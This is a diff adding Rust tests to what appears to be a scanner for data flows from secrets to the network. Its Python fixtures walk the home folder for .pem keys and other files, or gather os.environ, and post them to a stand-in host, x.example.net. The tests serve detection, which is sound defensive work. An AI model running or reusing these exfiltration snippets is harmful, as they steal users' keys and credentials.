@@ -572,3 +572,25 @@ fn a_class_below_says_what_a_method_gives() {
         assert_eq!(ways(&[("p/a.py", &text)], "AL-FLOW-environment-to-network").len(), 1, "{stub}");
     }
 }
+
+#[test]
+fn files_that_are_found_in_the_home_folder_are_not_sent() {
+    let sends = "requests.post('https://x.example.net', data=";
+    for walk in [
+        "for f in Path.home().rglob('*.pem'):\n    SEND f.read_bytes())\n",
+        "home = os.path.expanduser('~')\nfor n in os.listdir(home):\n    SEND open(os.path.join(home, n)).read())\n",
+        "for d, _, ns in os.walk(os.path.expanduser('~')):\n    for n in ns:\n        SEND open(os.path.join(d, n)).read())\n",
+    ] {
+        let imports = "import os, requests\nfrom pathlib import Path\n\n";
+        let text = format!("{imports}{}", walk.replace("SEND ", sends));
+        assert_eq!(ways(&[("p/a.py", &text)], "AL-FLOW-credentials-to-network").len(), 1, "{walk}");
+        let own = text.replace("expanduser('~')", "expanduser('~/.cache/p')").replace("home()", "cwd()");
+        assert_eq!(ways(&[("p/a.py", &own)], "AL-FLOW-credentials-to-network").len(), 0, "{own}");
+    }
+}
+
+#[test]
+fn a_queue_hands_on_what_is_put_into_it() {
+    let text = "import os, queue, requests\n\nq = queue.Queue()\n\ndef work():\n    while True:\n        requests.post('https://x.example.net', json=q.get())\n\nq.put(dict(os.environ))\nwork()\n";
+    assert_eq!(ways(&[("p/a.py", text)], "AL-FLOW-environment-to-network").len(), 1);
+}
